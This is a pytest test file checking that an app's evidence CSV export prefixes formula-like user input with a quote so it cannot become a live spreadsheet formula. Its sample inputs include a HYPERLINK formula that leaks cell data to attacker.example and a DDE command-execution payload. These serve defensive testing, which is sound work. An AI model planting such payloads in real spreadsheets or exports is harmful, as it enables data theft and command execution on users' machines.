"""The evidence CSV: what people typed can never become a live spreadsheet formula."""

from __future__ import annotations

import csv
import io

from app.accounts.models import Region
from app.extensions import db
from tests.app.evidence.conftest import person

FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'


def test_a_skill_typed_as_a_formula_reaches_the_csv_as_text(app, client, login, district):
    with app.app_context():
        bramsche = db.session.get(Region, district.ids.b)
        for skill in (FORMULA, FORMULA, FORMULA, "@SUM(1+1)", " +cmd|' /C calc'!A0"):
            person(bramsche, district.today, goals=["job"], skill=skill)
        db.session.commit()
    login(district.coordinator)
    response = client.get(f"/evidence/{district.ids.district}.csv")
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True))))
    occupations = {row[2]: row[3] for row in rows if row[1] == "occupation"}
    assert occupations["'" + FORMULA] == "3"
    assert "'@SUM(1+1)" in occupations
    assert any(key.startswith("'") and "+cmd" in key for key in occupations)
    assert not any(cell[:1] in "=+-@\t\r" for row in rows for cell in row if cell)
    assert ["Landkreis Test", "places", "daycare", "2", "1", ""] in rows  # numbers stay numbers
